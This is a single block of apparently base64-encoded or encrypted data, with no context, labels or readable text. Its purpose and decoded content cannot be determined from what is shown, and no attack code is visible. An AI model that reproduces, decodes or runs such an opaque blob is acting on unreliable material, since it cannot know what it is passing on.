09dwoWHoHwqQmubpPcdPqU6JZ96/17HgmX8jJTrRSgL+ILzlhdikatYJxaXr+V6GmSXJyp8v6WzZDx/1V97UwYdaEsslY9vmF8gJecMOXeYoWp45Vgb1jS50cgF1BED/g2Jhqd3h1647jap29ZFJn5qwV2UxKiXP0Rv4fTrgHFtKGGOCLEIFjeQx2i8RZpFfGrU6C1Dx5/exTbHUlKBxRLQu9ykaypS/c4t1iTHhuQ0EJnbLdect/Pvcx2TF+ax6c65vMpoiE7vr0jSo7Ekoiqj7+OYCf5nrKXXSuT7L0y4yOKVOzAQF230orAGKLsF0dLuMdTkMVd+SKkrM3sea4SaxCobVvT3zQhjY9Ex3wpdEhyf+G0DpUywBTVez3Dba9RxKuVPtatQCtnMgFN2t8QmVsCWGGj47b/THPg8kOkwPygf0Gu4ILxM0wPxOnI3vEeDB9+Xv12oxexCL5GcB+iRHoR6EHT1dczrg/y450V65Q3QVGZz13DRb3KvAbQY0nCkx8ioPTMNdKNqlMBT02jg8CYEZ3Kfh5yR60Wbvxy3F/6nfoy3T1UsD+5IIEvXITU10n0AzYrr8ja/OUShewxH+2YgRahL3o0rpHnebeWniDLXmAkyPvgh7kR9eMtvZ7/34RgULzd5cKKLqh3hJxjQRDWp4nXrNCYtrzosx4Ed5H802nPe9g1Q4wPDUYK6E+H2BKbDKgj79luBswCcACXOUQqEskpTC2cYYXjOSL9lgy7rMlZaEM0os5oHnx04cQptfCsgTQVCIp2GA+lcWCese8SHUm0TRioveEAk+EtvDFrwzgX07WjOZ4Iz+aRn+TJcaXySoTcqFV5Xdndx2OsRpTblmU8lGppbOJcjxif2tfLVXDXYtCKYh7lmxoxiFSMQpidX3JMQw0T0WWRQacJxNuFF38Jbv5jx/it6OOdQblu//dHkWGZ8oC7P5rtdfFcOmudgpPOZy/8dwVXKkfSdBS9xf5qyqgdC6oE/70qM+XF7Mfmd8vRU7bGxpstq2k/o0vcZDdV4/Dx7zW0GwM5MxvtlNqqvQsG1x8GmcLWxMCjcsNHbi709nl1ELKGIZ5jOFhedFWZrZzc20PXQhKhua0l5kOmDcurHZBOFp1xV79EDxBu2qYhwLpT6oaBwWdhBMTeQUXTD78sxUMofLUkYkcOteQpQT0oekPVMdqPx8lrRFlUOav4WhgVjIWHYvLbZC9BXCarY6Sp3wyP1fg4P9SUTTghj1eFyoVJd4rlEfcoAHJdNyuMOcF83IUPRdiUvY8yyMdyrpuHG3pXkTjG7XyvdEIXNtITZMlFJzV4+It3L7kCoAD3hQ+y/+lEdPVSMm8DkRLmoU5M2swvlcBzyk3sbStP1aMDznPCLD/uBCc+R3ZbuKS24AyEuVHsg1o7Qf1j/stD1YqtmG8AFKn+4cuLVb7IUpXAZ42etFZrV0slJ7+6HWHZ4n92LXOqr1GWakmhe39okMYojNKhzs1gje2j6snrYqB2RrPNxhIbMIf90myTxTJa86CtTCVfFf0AXPs6/32VC8T9cShjDoDb8zM3dFDylIUus37cREVWMPIMwvNLdh32zLuCeAH5B0eziEzZrCcI/EUOFPAtjm1X7W2Yb0X9n5DDrt75BJnL+J/69lHt/TKsdOhFdmTEnA+RKuUwd64948y+lG/BTvA8CAsCCAamG9givVHeAT7J9B4HfrdWZibxpOuanCFWP46zIo5ieqfdr1scTzKNfO1cv95BOkPxF5+wZ4zf2YA3DAOCQA6uiKV8ZoMCpVSTGInlEdDS8ZixflSWtZlegbUjr+G2dKNg4X1CGiZRJaxsClT/JXO6mDNjfEODeBxT/sRoKACgUh108VIymSlGV7fdJf7sF7Kut31649mzYrB/dp6V1LAbco47Hh7MCyNsM5oF8hYqhogrRvUNSn0b3Xc7QqGesUWTJFQB2BHqULUz2DTzV1zNFo5RsBhq5z+VLy4nPXYAqovjQYczSC/d82g8mCjSLkpwBRYyXHw+EDSwu7S1w1KuEpwoqD3XFqo43FBuoyXAl7kbXgxr+/nh8yzAA9f8vQ7hrr5V+FIHkUpfZTFsJQJYagoCoAG+g3CDjaLA/oGhlayC0wQYRfbHL2cHC3knV6837xJuMuoEHaQSyMkIwP5wg9v1iyUZPs9wJfhNV96P3tkmisP39dfp8lauqcHjzxtKTIqhxFapEUlqsTtmRg2jvW8iAAkoPSfmzWuB7Ins4U4/hQ6GpSImoaLb4QAHvEDf/Fj1x+0SNaehHZ4/etpOJNHH7nGRKYYpv530Lnk3blxfyRmCFR/hjIw3HeUeqSav+Mnh28MYOQtD/EA7tSGrNT8t3RQq201v/5pEqahwihdXLxP6OwYECo4T9Pji/iOcNWZk/hky8ZepmbXcBnfKPlK/YNUylGRuWp+ddxKEbPGWE/+0O2ZXlrk+yi0Tmo4mCl/EUnDKHA+w/L9CpJHLSm8WPGRsX7ukLc/kWITUB9gO+TrR0k6s6uETcngbK5ngeAKSBWBnnZhM+rJq/fnyHFcE31RfUtJV8Cr2UnoCySpAs/CEEfbs43+7bk1etxGwgD8pTteaPXRkpSGyZQzZqyLLan0PhS2YGYI+ElVNcXz9c3iXfOGq6+qQf69DrpK1p4KC1vUz87jymhhlO1l+7wBXy09aZ6s427ie/9xX6Njds2gdJK3z0MDrzRZxXJbCjOOeKJ+2YXZCbsA0W86MHS8+Yk6zhRFWFmNyVa3IS+zXR7DPeUWbaechSpxT7IT3dHhU6CApMLdEnFtm7Lej22/WHcNTj5AfMrhdbbcYX//dFKTpM81XTedu4xWFyvihwHH7BBsOLflta0BOjeyZXquVgmkT6Gg3nax7vubeKQwdaSiFio8PacrdTEDwEGVYu4f8scJWMMfzWPg7UK5nrgkfx+W9ENjAaNdkgQsR8C/USic7EdRw0vVk2s/Pe7oma66vwwp6Oxcx5JhHMy5SshKlPtwupudHzGFTDw/T2bHOLubGgiKhN/zVffj5hgg9tBm8okZAOJSFNHohHFDyKGcog76gK2osIkO0/YQpcxsiVQBTfOYiy43suw6OlePp09Wi8rEtpUU8i7zjvj8F0nxEl7vxe4EYtB3q2KshGSKmdRyAW/+0490wm7tHvojic0TLwfy/sBIAtwWXW1+1plBLnCd2IYl15NJvrcUD3C4yFZu6r0XOeF/534lOKuGmTnACVeW6X/CrFRmUfUpwSyyvRnELg+YgAOCGOMw1aNZlro3ZmLxPWMjT0KCwKSVDhhcvNC4SLrOe1ftT9dc6AC3+FnrcQyCk/3kH7oCapn2mUTj/H5S+aeW87/RSK9g1xQX5/KFcWy80FugiVzPek8+j+VUdQdw8MlDjTqkf5LLDouIAZcBkHefC8HHaY+rjxpM2nSKXtvvAnNxo6en+7W0X6SH3/kwW4KivR7lVZ7SgBocEoowHIHU4xFrCiMOfimH82ycZCc9bbXJQTiygMK1XelemvymUd0ykOz1+3bdMHG8JELUgSgP6Y79BRLU5uQyFOYEwBsr9hZWMTG1xT1N4D0uGAhsDI6xH9f0/LV1+MygRv7U+StV2FyVK0no8nhMybhZz53eIqXyc8ELXeyY0fk1/lDmYaSN7K8R6wZ8+LZb9G/xsSxupeWv32Pdm4EpCu9Ha2BXKVAOywrnXcB8Rc/fGVuWIEa89zffsUcYEjwY35OUjdyIhN5foUGAVf+QihQSykZVGnDXILG4rDau127oZFqLqFYaH3j7qaEj5j2JvDU/0YGy+Cd4vJVNAIvI1meO54v1Gf611zHT99Y2vM6Qcl/v/SkdWt6rBdMtmnTMbCH2eK4e0ldeX4gTAf5aolXSIAl3Z4pajAL3WLDIe+7SuQKLOrwLBg8oqfCrIduZLzY9K4vG5KkSMYq3MGUGqRKDqr2XWYUhqrpdFD1BlC+VG6GDaU3TUTZwACUX4hOzFyMRmICiL5Be1LiXGhzGhR4aPrmMqyrU3VHKs5rPENzGkquXfWE+ymKKYrjdmAO3SlzKysAzhyiNDUt4now8NJvxenrH8r8E/RfPTv87G4AdFihfM3VxppJOmSfRAgaSVMQ48qMzRQnLQjC8r7yKHjnYs+wm88/2wb2hao13mQvFGXRj+QY+Im3kyv3Eg/ulS0Qqzb4fnpQF7+lGuW4ycihxo46XNP/r9MhDSPYr3hjMFfYdGSuixzr6tiim9fb6t6Of6Tgaq1KJr976LQLfoLI5kmKoCIfyplhrYhJgoiPOaEBRYPkgH+hOUnsE48FSDIEzMO0JrxrPkBe640XHhCE61viwVaYO7pRHrekylJN9rxb0VPIAlrkMlHRuxwWJr1gD82f+bGYRQhuDlO2wK+wLSn7uXibFARPUEgARgo10F1/dC95OgY9gFfik+nV8bu//kTR/hjMf9Aw7JukO0wwJLjlvKmSb/mvcPnknml9QKZBov83KNwDA5xdgxAsOUcuJ0+KCrUBitY0+6LfzU3CFGPHFOiGJFEbzi4jktpULRXlOSQsCob+PAViKcoWyyO2SOatGTAk81+PpFDtiIOAJko3+1l5whJic8vOX36MXq34/i8XzYzgpH4/05w0cfTZbSQSM2jXj+NptArV7/w+BxYOsDGh7E+OX5GW5hL7alxkwSzU1s/reCqr1NSvns4CVnZoDYz2dAl5TrFIBuSoE5wqbCEz1KqMEPCkQ5HRh9QRJD4Al/JKy8CcNjIkUk2iFSsPxbpuEB7GAZzmI/52Peqhrtrxkf5p+Nd+zUEENJcoaH0Q+KXJdexS0FCpve8jSDqx2C62ClTD2BJTQjVrjJB9W8Pi4ghiluKAoga/oWsdw/DSJrhPmcwmiqUgHvn3ccZZ/CtRz63oM3T9vs6vA9tVblrekTZxUhJ/KTZxm3UyrB5hr+DW1PFYnH3SllYpDVWCwmhNnS49GuYQCx+dUkgRuAv+h/C72jb5NZiH8+B1YOWoNIMwsM00U4yXd9ZvO68CuLodJp0qqtdS2i62Hrw2VgUYLzICqtYAL2ICNteP15w7dDS7wH/nRKFtoJejUK0RB0YrqsVkIbUbOsJvNrAsnRpB7OnhEjM34I9mXoVJ8ib3eed1XOI7TTIu4kE7Z3WxupN7PS1gfPEoKnUFJyS2XOvwKTDdJG7q3qRDSFkg4Ogek4St7vkAl+VvSCPNjHXE7xRNHQwJBZtWcR6HXA5rLfpjOhf0wAM9mQktQv1bEH1ZuXYjDw1TZoLULz894U4e5WMg3yeG+to1jhciBtSVDRajiDP2E8+hPs5ycNZGOmc8Gdz4bkujetMZu4hA67XKDGIGzn2td1+HGPlYjBpvkltVEhawqsSTf9aVFRwNd8UwbqM87xxhfzW8POzIt/kv/wunDEdznsobfQzcAHw1eCQ6BnJEurQ5Nn68wnxMM37pr9LW/ATv/ykSQ1DXrCAiDXT/GmcDDK8I8Cdp5v5OaEd9ji8IhmBKvUmlw36mZMLRVbb9ZqV4HSjeB2+G4fZTeizD+8qx6qj5EPPmQzJJOqR5lyMKu6LV0ey+Oqf+DbpsBe653qU0FcXDu8iY88zORoEXDigLEZod8DXtlYlbP1KmXu9erHeuYsBOtIfZpHOZe96GoJgyUvIWiCNH5rB2mzpamT5cRBu+5jcv3OMWY/5P7Qtda8+GR2UXYTJ7FJ6pOrEN7vxYLxhbQ7vS3Vt3btUEGcRfRsHUBXZarLQL9IWFcucxDTLZGzsOMbj9oFIfArs0UBbjkxmzTR7E2WxCJTwGOtSlUXxv09QIsnvMO/aWb0w4qlmKugf0oCFv2nr65ZTgyJwZBfL/pzAjwTfkJ2Fx4IpWKlfNDNPISQuySo8Dh5RQX+IUR5CzvseT5nKMdEK6CY6uB8V22qidn7nz+JezO5/TteL8nAb54KX8hP56Qk/xkEU97iFpPT48OthNUVOq12Br0xXY+JWZYJoMPgNmvCvlSnmvBNzujebZjFAyIch66aaBMV5Cv9NbgVLgTTvu/SQU3iDfARhAVtS6P2NtPTPQcTL+GfxfD2rhieleQCMIdz5PqsKZ2o60LpKJsprjrnDI8b0H0Fkw+FJEkOx1ydopllkawtY4A0Bz+w+KHsxjx4702HqxoaDWTkV0iOxvjEkc9VJUSzJozc3D8ZZfPwH2HQw+/shtjRcPoLtaJ6blTMmU8rDzeTcWLUlFZxR0pD61iobG7Ghb/uJjFfNZCdWRrpuWEVO7pe2jrtk7axwGPrOyUlQFvPc2UX+bAsQRnsdbOK9cN+x1jJijVn6X4WW8CheSIDo4NOt+aU2LxbFnyGXnoZnn6XPNjU0T9JANcwhWN28N1MxLN0GlX69BZiyR7+3As8EkWwWFHKOzzcf83uIZwmLV7YauI3lcKbAON3TXy3f7TxxbLGNMfZsXJN6TT5Ny0J3xje9MZZoWLTYK2HINsDMLbs+VSXFQWno4fcIr+us1uVq1d9fNCVS6pYqzPmLq1JgRtlUQef5PY3dpIoBrYbFBZW+72nQzTv8uVcEqazRvVpaWyJcmwgoirf6y0mbWp5UYryY7BoJd0VSmwu0K8a7IZU89ngvw6pC4Py+FWYfvyjHdDb7xnKkPlVkT2gbC7Cdof0Q/YcWwqwJO7611p+ftOXIyClC0WaEiaX1jzD3byjegUO5sqzXdY75ofjp72WCVsm+GnRUyUBCU0MDVXttf9lUITbaq54CFLYVHwnoS2lPXdhrIXS5CNpQm9U391ULNIiNN7MMZH3ZJXAVIhMYUPZ8Q5/wGGxjPP4D00s53v+igdwfv0UXp5oG4CyVT3Q2zTJbkernb05CUs+GCIF41oVND3ZuRR8yDFzSJk9IW0738omOkj+JPdqIsDz7vRc/afPJ8I2JnIwgK188A5kdkv4X4PcxwO57ue8CrCfMDCasnwx1sBXrVZ+dO7zPblP1AhJ8916STsrYRNsPL3sUTQZwxydJ79d93xTGl8U7CVcLrk3sxALID2lp1TQLV6mhsTQYnWno82KaxeZXhH4hiqHrqvAud7SLMDbg3t5cFoBlfv17tKlMXzuv7BjEIHMTI9B4XZpsrrR0X1CNwrhbpqtlsarKW9R0UnCQr3+c+oMXVCzpg3a6kWzQcUtd3S6qh6T3EwLO5vHS++ceJO/uChN+EGc/UcHaTXLDSnHFOAdIn/qkfiF2Anl7IZjFIzI7b4c7r35DsdgJTToa/f4gu4j33hThbQcY6/1cclHn+l1w9dJMxXqVEDSwv7AEKg2UeRHz3hw9VRkzmK3xqkyGb74ePrOaGttSPRYRGOs3yzDcNGfjO9bmNvS7gXtWYnynzT5yWDkg+cJHds0KLMAkspdjvnSZP+vO8mN91I/AHbasS6T+GORN/z/j5fH4ytU2PjWeXRUXtOMq09/ymzsD6DShF7796hihuFpaNyrOPQXtdlliSJqL6QlCvIpJtcF+wIg9JvaGhJdZn/SBsaRkjq9syDFXu6Gt+lKNEh52+aRkEip/MuYWowbMUt1272lh7Vv2if7vb5U89HJmuasEWWJHoW6Dzxuqbu7OEZrSauaLc3S1p3JRepH4vHb/3/Egg98wrfhCNJvoiJ5ZHyEJbn0q/l6nwnOOzUQ1gg9VK0XRBwV7ihMmnY6+T7g9yD07/j9yUFV6AncEV7M+A+rh5uBd+9EQWrrbB3d6KCALA7iuQ2qxdQkX1oo/EDjQOCTNuBrfoxM/Tpae4/4F4qrYp6LQs2VYbVa9HrYwW1AqvAR1ff8b2fgNZBNX+gsIaBa/H/MAnk7AQKEC8pgKJNg17Nv9drYglE4qGAAsWr+5ipj5arz94OgKXfQCs6sBazGBtjmXjds/+1BD5RLpE9sQjPZrqqMWQnUXhvGoXBmatJx64O+283iCioCFBDYUZYHBV9hnrFrNaaWGPMq16LuxnXVVh7lR8aWmpd/Lsu42TsmjbjjfQaUfwoq8zhRP9hWPwwZbl59FonnSgYbfYhvOfy2HKDQOxFlYC9ka+28tSxeyTnvTNJG5+OIayDrbEQq4WpYDUVoSd54XZUEHvhYPHPpiESIN7k9iJ3uxwfFVL65F219tV5cvJahY9CmMIXBFicFUzufzSjlhTIVXmgBUT0vxZdNIJLab1C9W8qPdRd8pvEMmHSpbnCWrMmoB7eeaTFlNld1lqnsMiSQT0dNKFdjTGX16PV86Tj4qJJZ8jlkBFyc1F1Krrq6KQZNErLNdY5uz/Tsxbkcm1tXNSysyfb8BKN2sPMQEyTonqNK9OMj+Aq/ETKOAogF5O9nJnQ0YSr/0rFgAZvUuf9hjVUymXedRfMIVhcdmSXLtFro5eyWVlL8Ni+vk1Q1pd+oEIV3D45P4TozeLL1gN3I1Monm313kMKf8NhrUhvL7LKhSptSMie/J4h+fqkmGizQoLc09ndaZRtNykk0m0Hq49tTA/S+ho4xIaMPCjBaedGaK8FSBzaAoDxdzvj6UEPiIEK2+6e2HszB8o8wsC1w5idpna+SUvLKV+U4Z4zXLsQSZz/X5JNK2B9e0AnbTtKuFH4uohyrT2Q+g1ebHndAgwpsLLXEtS9QPsQ+BDfCyjWW/S+WicZDioU91YSeFsHb3cycNs64FeTCrm2QOL9QF7KS21ZjmCPmiXvQSKugi+0xWjYyKgGNk8fhOFwbyVLaXwEKdUsgA6AjZTIXeaGsJhFda15XWiNQ0lp8xoE5Sv7219vBcLG2E9o0Wmyz7tFF5DhVFVewtXiLjB6V6umuWREr5AA/W0oJKlpBB5YB9n67R0msWX4CbByCwR/Emb6qmR/qBK5s72MXKLLocM6C8JmtevGWNFcVGVFRMMBK2uIyZZTsESyU0iI61Ea9Hpsj7WFH6oNwakkjDIfgFTIUtgZMUAeL3VN55m9gsWvTPhxD+RXlSNe7gAFEmfLgR+7TXR/VuJbAm3PYMyClAfU6wY+6EBsvOXiEThkdzGJgkp3y7afOLDS3YWw7sX+vql4ouBuxTLkXnDGUzQFEc8iJe9c6bTVAh7PzJeMG+ZUMBe4qetYvH3n+k4NV7SxfU4aA7SViLIhP8Ac3GErJP/wEZkueXy/W5KNmR0i8pg88v6tvkb22lskOXHo67uaD+K6oJEHtecWS+DDMYpH/tVEPki5rAJRh1jNnwvoKy9AA01B3TuGLUTBXHYkg9WYzO2bwV2WOERQiW5aV+rgPcylFXcn130ezJG0LCb5z7Q7b9Gh2NGnHX/ksgJy/KBXKY3LRsmgTBe0x7iei2TUBjyKKIb30vcgpKc7vq5fdBu9TywdxS2aR9xO7+d0b1mYKs/UFfBAZWRH9OH1YWXjQx4o2f19MToUVjRgi6j6AL8o7+7qz53VRCap94gLgKyaiKfkCOSJIsBMxmDdMYVktb+NGh7BmysqyiXvOZEvMNt5j2Lj65SRcfC1eJi3k6m8RuKHRx6QK+4yk5PMck45uOxU7Yheaniz7XRhRgJioumoVy4+DKnPF622Ne7SUV7grXyFjbNoxUrWMuivpNYY9d+hc0vHKNzRta8MaXB+BXRyLE/auGhHNu+s1Y9qx2tQpIUEDw+fDXjbK/3r19ZeSiYJBAAo4zjMnnbdxhk6W8TsTo1PyvhxbQWwx/pXpeRw3DZ3cscpbZ9XsXQgmuRHWfYdzJ9C3KI/VzsCi+C2t0hnn9DMC/oHru6e6vSjYp9hz1fOyERXOJXxSpf+ShXvAUeb3gXyrWhsqUtk6OE1xSLAxRZ0PByKUQ0Q8FYzdvnhzxNKNMmUWfUl6ziQkFQQ43OmYEpQSD3goVG+YFMSLNrqg/Dtw/RFElqOlwuNp8PhEtG+prfmBeVtR/03a95FcRNzNkAsDSf4YaIiNV/99/OANhNGdHpH7VFONs121mta5Jhd7LqYMMvl4Qd1+87994HMCrZjeieUBrPZpqK97rQKjPHeo9C3krsfz4qk2G+QbF0onsG2lYZpjzfUZnugrM6HV6atgo3EzxhHKV6b3MkLgE6tn49ImSaZL66HpbIio6Y6IZqnAz8I6OZbJPXNldmLq/XTiXuhkNM8GOtIAQOms7dkc/6/Twirh/xUN1PmExK1uj+choNSPStxmlA2K8p599XikM/14dUmF24lH95gYR2vAIRySXcFTppX2yA81RhmcbIPr98N+N5OLQpScW+VlRHPiIeDcY6Q2NGUUdt+C2+B8Mxip9Fzej27PoTbjgfHj9qtT5+58SvAMigiyrjWm3pLvliPfM0IDPGkgatqzo/QH8UXxvD67hod+6hMMo+siW9HuDN+qrYH5QGvNU0JJIVmj4DwC37UtKgJUf2vUYJ42q8o32/HcCPR2lfsrJOcyENZEPRoPq8ser0WSlAazXjJZE2bd0uHXAxaZrNfKDBMl1jaBzaTiue9OKCfazYyczRyrBY/B6XeOvo0czsHP03OCThJsRw3+mMWTBkfhgglCCW+AjeUPu1okM3rCN1YX4oAg5+DmcZJcktogVA4jvFkTlmt/pzXdS0q5mDwQ1tTwrHpgjQ1nu90HC7SVDHDiv8dEf/KB55jPlVp4ubkSPIlVC6eXIFxDAbXVohRfkervFKmgvNYX7+u2SSoXrJVheqAod3geep8qVmksN9BZmle8vOiMxGRIT/4sxQSC3byKNPgEljZU4N9kBEPRCK7dhjkaSjzjWt6VllN1wpMM7BJ7D9X+K7fbRYIrZuO8JRVT3HuCljeJUxZcavwd79rJJuLVmLnnKgq5Rt9psC0iCkcrqTN0DVVJ4DWCfAelPFJsviMS3urvQoSS5gnSQ4Cm5AyP2MBR/tPt3Cs/4z14O+F4JAdp/4yxSniDvzQHN7zIStHvgnHqM0vgOUfDGbbBHX9CcFNqTvZIJ+Yd3iKo0YFYbWFQRbJU/+bmw0AxWQG0GJ9lvhR5i24akfdnJLjFVeIsbsKKdMN9G8r+A/TFhT7dwv2OSCuQWxCpyJmbZYD0psVgz5bMWBOn7npyMwfl1sHO+FmrndepT2Ji4fCQ4ySLEvQ3M6hKSXN0dEfsvv2PsYVVfivUb4OtVNlfpc1J/XwcVvNKdF2I+Ad2+F5CsnKvXgOVLXTD9cBdMYZ+YSOEqw1qVABlzoUZjeEVGRU9J0MxRskppnWRfq0KBmuxB7R5TWiCQ1ntyID8EuMfAAv5Klbs2L2HezxiUhp7vh0/udSmkeHbtYQD4cjBKRQ1vD0iN+HQ6Xs+205sngGdw1WVOE1h7r2MHRvj6YryChGgbqvu8o6ZWLZP0wzaK6e9yt/uTKomJS+y6vI1HK22u6dpGkU6xk1zaEqTzrKK9f1C6wLGalID6dHyAVCpeuS03lEAU1Ikc9sVRN+seyDn8NSzoEwKJGKPMfwvXli82znHykX8X4udSENDpM0AP+NEM80PWjWb6sJRLhyt21/0UsyEXF+siIA4VPzAEdSli43mIxfDhH8iugZIkmJjEnSpHOM3pLdfRnNJwkRGmSg1RWH87zvWyGniBnENPTGu+Ls74qaX73LiYA2S3bJX4l5K2iaMi/yMm3AqqIYABfg7pQL2WjkfLr5a5ufAqcxy+tj5qW0BDGNqYNTSK6Ue0lhPohdG/+vCzppptxmgIgT0nBLWfQYPafM7+FTRhaSPU5fqKJCR8DdF5rWEJpRCUv5Ak6DwOnbrODutzNrcU2fgliAlW3rjAWIWAGbu4HsPuFraUjEjeTmFr1Ih1VXyn/SwoXz9T2+7ffMc/LiKEP363uaabDiM1A/+AU/7nXLXM60uiW5n7WbZv1LUrr50AmCwAD2cZYr24jyC7u1cz4hPTGkDGCVXVqTkQ2Wp4bV/cr2PAiKP4I4HeaBHWnxM0rIRcmF4WWrOO2HsoaZ7KudiQEtulDAq7loZKIjaQRR9wkKPgfWwKdVrFvBpfVYV5xzu9QBZtUAOK7IFWxNUheev8URaz/JX9ObFNSD0Y+J/a14u9soZgZk1748kGZUJY3IsI+nJlapvT2L1lS5ZtqfbDoJFJjT3E0uD7+jYkeOlPRqAyOxMjErbCf7HNme0klcCvZiRX5BsO3JmCgWrovaA4eljXc9wENEiFn0cySerZ93O2ujJhEOzTY2DYxzJD54NXd0/L3w2YqSf5u+P9Mw4SgpjFEIwZAjiYzFPrJuwyOaZwb/T/wzNnpuzPxQkox1SWQFmDA5zDzAijfar50ywUS43WUvgfrO+5rTYaetDcw5Mv20qpRFpeHP9lq5YKRvfaq9PXERtPqo1mAepvJsp1qpAqcOI3BhjXaYqr8G84pv/NWAgDu304t0gXX4x+4v/3LA6o/aa4NuUAxiFXvte9rdq7lFShfPWBVHYPrjLJM3sPrq1qJy8Ji0Wgw8XU4Von+XBss5gkcMkIzOGb2HKGE3O938N2kTuF4ZpKGlF8VbPFs3ZP3Cu+s0Pee9ziRXK6RDabSlvkebkcRiPbDePkzwSk5YAyX0FOB9mgOTDDaSd+k4UblQXaZZO3T/REctwg0R4Hmu+1C4qzgWQ7yoZPuLquBMSe5CQT3itSUB7PBQGdA1KT5BFeF7nRLJxPRV+PWQRPz5bJftwXlXtCC5Ljiptetljv/tIa9Lze8kxIzvRd5ClxkGDJyTRuPtcnHLDgqOIdJ5xCILMMTLzJBMW/h1IPvmmtSLg3d60L/DVfdCBs72lg7bpDKzY8WmDK2TjP+DQ92lRY/bvWpBDfKb3WWaNI7JD0O7UKP8ocvaOqyi1vOkZnpnBZyUbTI7VFUMoUi4rIN4lXyeo1vT1m/rama0T2TqXxrhfXb4IoSB6jv18MnMpI3q4NOw13n5Y730iY+5QNWF7uWMlh35xAEFUWRx2Q6f1o6T2DvzYDLWVikBklTmCaiIAAX04c2aMlKkvOAfyWEU56AIhPpxMiOpC3NUQg29MJqO+ZhnaMbISvMhbLEcE9tTLcEgTM91jacJb7Yc3euzU+9zih1VTUrQwY74Bd+2dQ93jO2hpLQF614cNIFtX3PpD7jxyE9bQtlj0AXb7zEgkPYObITqNgp1QZ8hi+628riXOg/R9kW7NTsUU/tMElxHA1BhzI4BK+EuZ3/wjH39OnNVMOnzhzXVgAjScfpPHJ1OAfkcjPS2bUQcOw0Vkz/UhwbxB9yI6HkdNpLsH0x4ll+ajRUIo48lKr20zGUq7IWlY0DwAnqKC1Bb7aIAUZYEmw3VPePPPnVsB/4SoRm/R39wa8Gw+lP1GstumH5tKzuUF0tjn/m+IGr8dPqc9kTqe9ymjeTminpNzTdE4d428Pi2wl/TDncGOfrGVB5qahKDIv4TQ9Ku8uxIQV6bnb60pbmZK1WVaCUgjp75SLtAPqQYs/srQsFFs8xtbuclFCjpEX/duoqNi4Aiy6WC0/gZ/FZmKmMds/bxiZpUmvBSPnF1QVTVJot+nMIbvCJC53YKYt1/Je5/ErUKVczqBKKnkWUI6rYB3hfLkQHza5aZ1epoKGlB8O0U4Xu6dbUJaTM1V5j6MtX2TP7p1cUWqL8Yevzi50/Ply5THRq1Rx+GDWwlGjL6UBaO6P6u+dv3jfUyb4TocC+/stHG9gdXG75+T3/H+WAg91u95Sq6//UlkA4bmQy65AnUw1WtITJWkJ/C5TD7yBdXcyGaEPw4ihTgIZ9hA+WCzqtdiKQgjpQ1Zxh0rwcBUu13lwCYyEyhXe8+UR8ttzcO945CU2q+i4lpZfqOb//5hSfPNCzdIyPs7DxJq7HcPnVQX2kt7N5N7GnMnxsGY/pahXd4YAM5FO+ZLNagy9RkNm+yUVzSz/liQqeATT57esq9h4YGUuQbrRlmNVAl/YGPBNQEQ1IoXvGlBrCS/LtVSNrkXbZaxO5LnqrG/4iXpTikmBrLc6yModmsdf+eml2cIAo46d+lEJuoe2MP/N4HNbhIDHYMzf22g87UbzvYq1Yin8TL48cnUVBgYA419bs15FEfB3MY+dqzIp3xBfw3G6QoWFoZWn32cDLn8yodysSddULgB09knfkosM+ZFFbmvUnVFNiugfq1rg6mxuLsqMCbG9jNB7g6nCNiBc9uRt3bRYu7w+qGT+odTdAPTVRCDcHd8tiA/imAzWmEv8z2YWl6BHsjMkibWquvpNypmytyCoGqPlxC72zA8MNEJB7uvDaz4y7EXVZ2Bf06J/88OTI5abBg93J9W73HoHOgHsYKAEqch4klObWOCLWiJQvWTLYbmVnt9d3z+gW4LPVRvylJeZwei+W1NObeXYGCEYklIM6OAItfoXK4vwNIRaJlE3q8/9vyWYQ8p6tBfoUlfH2GwezAsrBkzfKnlJWZHDIiqhyQ8ymZ42DHDOqPDHvUejBWAvn20llP/wknDnguCvwC0MhMAcurpRwH/GIjxF2nMFKCEKuCyGhp8VnBb2zJkF06VuoKQZFAab+KkMCsrIoNrxs22BOVEeWJlXvgpJ8QeCy91MqCoVjGcvw+4g3vpyiW3pYme05/gH/ECIxrLRNWt9oYMwL0iXyN93DF9TROm82kRbBSEnDRDf/pDqjbEpbcNLljHpsYRE3BePcBj3BpzHX9HaZTet3YM2n/6ZSFAowP5ss4kr7ETh2r+t9Xwa6AtqO/ChKCmgONTMX0ml+wpW0t5GdSL3zRzY64MxtNSX0PaablEtxFk9xAOgECyWUwVVbJKiaGW5oN6NJpkiicNt8duw4mrkdyBbckBApg+jxZSovim4ZpfNjycjzQiOesHNC82NFBvq44tEKKiYf1U0yObkI+bo12UZCI5i6WHbDbWgN+BEr0IPE/DpDjnrIU72ujnD+Ls6NENK5hdhyLpo6jYceSpiJQMIZBSvFY4OxQ+AG2SonnBy+QIrdbuFYkHwxYp1Lcg1jjParM+mXLN70ZVzj+Wct33rzYINb7Nz1sXno7iUr1teKwHVU1GQzAbOTcgDaWkqxjoKppP4iXv5RAgMShot/ZHcokQQwtbWx+x7/P2iYa+AOGLFKxZnkchCcH7E7plQ5B3slwARCVCS+Iw0SCCn8bbsmHvqapPtVX+/TxQmW4Y3dRjOIAH9PsgR6ewPlhrDX6naSHSJP06qg8Z+Ab8qUsQQUnQxKxHlbf1MDFbP791okS+U0JtE5MXvL6jiCUX+oV8mUS7zOOuZfmZqYnccz0e6wUdtKCDTjL2fvprkh0TKd9Wf+Zr4E3ApZMoMY+gPRXWwNhX5l86JKhF2UxqQ6JhbxWcofrwlWuYeJjSMiCFdXofGji7aOvzj/dfq4Pj9fNiFm3eNlZHVtAdsGQSzbvZd7gwGJDvTQnF8Kmx9DSVtijPVeQmlRfp3YXwUYPDkjrsDrSfDhH6v2gfSMX/vA97UWVCggiYCNZgcB0sSeLXB2Tt65fQmW0bBsSWGe37r0zAsfaL3sOMZEm0OpPIyAlTGSnkWSQ84jVTwh6aXrqR/R89qxsQMXco2XO2aoULrYJ15o8mAbSbz4cEVUvKpYPTYHG0HRltEIowtOp9jWhIHbndaYTLsN7vaU40xRDOFPfhHpPef3ISQh6Pau9N1i8AOa5QiNnRuEso8hc2zKUajhZjoh+C9+4w563QSJ4cEUrLZiJtE9kcyBN5leMLge50Msf4JSy0qXaG7WsxMgRp1KVZB0OiWEsstzy75uIWbKJPNqA0TA4ZMoxoCkf3xSkTFsjR6rnOHkWEF69l1iFefoO5wnTBrM3Q3yNIImIwiJqMsmxiihZqd86JSprJH9zYZ4ac6JzVv65T2KHBobuE0PN+eUh03SNcbRJhtw+NJbF89msIGefNcGin1YGq5/R6y0Kw0/LxDGINGdc+RnPYHAMvDcIHdIEImRzd9+GlsJqQ6UCKdD/ep/GRsTDfvrSxtOlkNs2cLF